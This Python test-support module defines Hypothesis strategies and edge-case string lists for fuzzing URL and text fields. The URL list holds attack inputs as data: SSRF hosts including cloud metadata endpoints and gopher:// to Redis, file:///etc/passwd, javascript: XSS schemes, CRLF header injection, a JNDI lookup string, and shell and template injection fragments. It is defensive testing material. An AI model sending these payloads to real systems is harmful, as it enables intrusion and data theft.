"""Texts that programs trip over: lengths, code points, escapes, addresses.

Rules: what is certainly valid or invalid is the contract's to say (`Constraint.judge`); here is
only what is worth sending. Every list has its reason; `URLS` is for properties that hold
addresses, since a server may open them or redirect to them.
"""

from __future__ import annotations

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

_EDGES = (63, 64, 100, 127, 128, 255, 256, 500, 512, 1000, 1023, 1024, 2000, 2047, 2048, 4095, 4096)
"""Sizes of buffers and columns, which are off by one so often."""

_ESCAPES = (
    "%2F", "%2f", "%5C", "%00", "%0A", "%0D%0A", "%20", "%23", "%25", "%2525", "%2E%2E", "%3F",
    "%40", "%C0%AF", "%E2%80%AE", "%F0%9F%92%A9", "%c3%a9", "%FF", "%3Cscript%3E", "%27", "%22",
)  # fmt: skip
"""Escapes that mean something where they are decoded once too often, or too early."""

URLS = (
    # userinfo, and what looks like a host and is none
    "https://user:pass@app.example.com/", "https://app.example.com@evil.example/",
    "https://app.example.com%40evil.example/", "https://app.example.com:443@evil.example/",
    "https://evil.example#@app.example.com/", "https://evil.example\\@app.example.com/",
    "https://app.example.com.evil.example/", "https:///app.example.com/", "https:app.example.com",
    "https:/\\app.example.com/", "\\\\evil.example\\share", "https://app。example。com/",
    # schemes that run or read something
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "ldap://127.0.0.1/",
    "view-source:https://example.com/", "blob:https://example.com/1", "jar:file:///x!/y",
    # line ends and NUL
    "https://app.example.com/\r\nSet-Cookie: x=1", "https://app.example.com/%0d%0aX-A: 1",
    "https://app.example.com/\n", "\nhttps://app.example.com/", "https://app.example.com/\x00",
    "https://app.example.com\x00.evil.example/", "https://app.example.com/\u2028",
    # homographs and what folds or normalises into something else
    "https://аpp.example.com/", "https://exаmple.com/", "https://faß.example/",
    "https://ｅｘａｍｐｌｅ.com/", "https://example。com/", "https://ⓔxample.com/",
    "https://K.example/", "https://ﬁ.example/", "https://İ.example/", "https://ı.example/",
    "https://a\u200db.example/", "https://a\u00adb.example/", "https://a\u202eb.example/",
    "https://xn--a.example/", "https://xn--.example/", "https://cafe\u0301.example/",
    # hosts that are this machine or its network, in every spelling
    "http://localhost/", "http://127.0.0.1/", "http://127.1/", "http://2130706433/",
    "http://0x7f000001/", "http://0177.0.0.1/", "http://0/", "http://[::1]/", "http://[::]/",
    "http://[::ffff:127.0.0.1]/", "http://[0:0:0:0:0:ffff:7f00:1]/", "http://[fe80::1%25eth0]/",
    "http://10.0.0.1/", "http://192.168.0.1/", "http://172.16.0.1/", "http://100.64.0.1/",
    "http://localhost.localdomain/", "http://127.0.0.1.nip.io/", "http://app.example.com:22/",
    # metadata of clouds
    "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://169.254.169.254.nip.io/",
    "http://100.100.100.200/latest/meta-data/", "http://0xA9FEA9FE/",
    # mixed encodings, odd ports, odd paths
    "https://%65xample.com/", "https://example.com:0/", "https://example.com:65536/",
    "https://example.com:99999/", "https://example.com:-1/", "https://example.com:+443/",
    "https://example.com:٤٤٣/", "https://example.com:/", "https://example.com:443:443/",
    "https://example.com/%", "https://example.com/%zz", "https://example.com/%c0%ae%c0%ae/",
    "https://example.com/../../etc/passwd", "https://example.com/..;/", "https://[::1", "https://]",
    "https://example.com./", "https://.example.com/", "https://example..com/", "https://-a.example/",
    "HTTPS://EXAMPLE.COM/", "hTtP://example.com/", "https://example.com?#", "https://?", "https://#",
    "https://" + "a" * 64 + ".example/", "https://" + ".".join(["a" * 60] * 5) + ".example/",
    # what templates, shells, databases and logs take for more than text
    "https://app.example.com/{{7*7}}", "https://app.example.com/${jndi:ldap://x.example/a}",
    "https://app.example.com/'--", "https://app.example.com/\";ls", "https://app.example.com/%s%n",
)  # fmt: skip

PLAIN = (
    "", " ", "null", "undefined", "0", "-1", "NaN", "true", "[]", "{}", "\x00", "\ufeff", "\u202e",
    "'", '"', "`", "\\", "<script>alert(1)</script>", "{{7*7}}", "${7*7}", "%s%n",
    "../../etc/passwd", "a" * 256, "a" * 65_537, "é", "e\u0301", "ß", "İ", "💩", "\ud7ff", "١٢٣",
    "1e400", "2147483648", "9223372036854775808", "1970-01-01", "2026-02-30", "0000-00-00",
)  # fmt: skip
"""For texts that hold no address."""

_LETTERS = st.one_of(
    # Each script has letters that one library or another maps, forbids or confuses.
    st.characters(min_codepoint=0xDF, max_codepoint=0xFF, categories=["Ll"]),
    st.characters(min_codepoint=0x100, max_codepoint=0x17F, categories=["Ll"]),
    st.characters(min_codepoint=0x3AC, max_codepoint=0x3CE, categories=["Ll"]),
    st.characters(min_codepoint=0x430, max_codepoint=0x45F, categories=["Ll"]),
    st.characters(min_codepoint=0x5D0, max_codepoint=0x5EA),
    st.characters(min_codepoint=0x3041, max_codepoint=0x30FA, categories=["Lo"]),
    st.characters(min_codepoint=0x4E00, max_codepoint=0x4FFF),
    st.characters(min_codepoint=0xAC00, max_codepoint=0xACFF),
)
_PORTS = st.one_of(
    st.sampled_from([1, 21, 22, 25, 80, 443, 1023, 1024, 8080, 8443, 32767, 32768, 65534, 65535]),
    st.integers(1, 65_535),
    st.integers(49_152, 65_535),
)


def _urls(host: SearchStrategy[str], rest: SearchStrategy[str]) -> SearchStrategy[str]:
    return st.builds("https://{}{}".format, host, rest)


def _exactly(length: int, character: str) -> str:
    """A URL of just this length."""
    start = "https://app.example.com/"
    return start + character * max(0, length - len(start))


def edge_lengths() -> SearchStrategy[int]:
    """Lengths at and beside the sizes that programs have."""
    near = st.builds(int.__add__, st.sampled_from(_EDGES), st.sampled_from([0, 0, -1, 1]))
    return st.one_of(near, st.integers(25, 300))


def urls() -> SearchStrategy[str]:
    """URLs at the edges: exact lengths, any port, letters of many scripts, escapes of all kinds."""
    plain = st.just("app.example.com")
    host = st.lists(_LETTERS, min_size=1, max_size=12).map("".join)
    escaped = st.lists(st.one_of(st.sampled_from(_ESCAPES), st.sampled_from(["a", "/", "-"])))
    return st.one_of(
        st.builds(_exactly, edge_lengths(), st.sampled_from(["a", "0", "-"])),
        _urls(plain, _PORTS.map(":{}/return".format)),
        _urls(host.map("{}.example".format), st.sampled_from(["", "/", "/return"])),
        _urls(plain, escaped.map(lambda parts: "/" + "".join(parts))),
        _urls(plain, escaped.map(lambda parts: "/?q=" + "".join(parts))),
        _urls(plain, escaped.map(lambda parts: "/#" + "".join(parts))),
    )
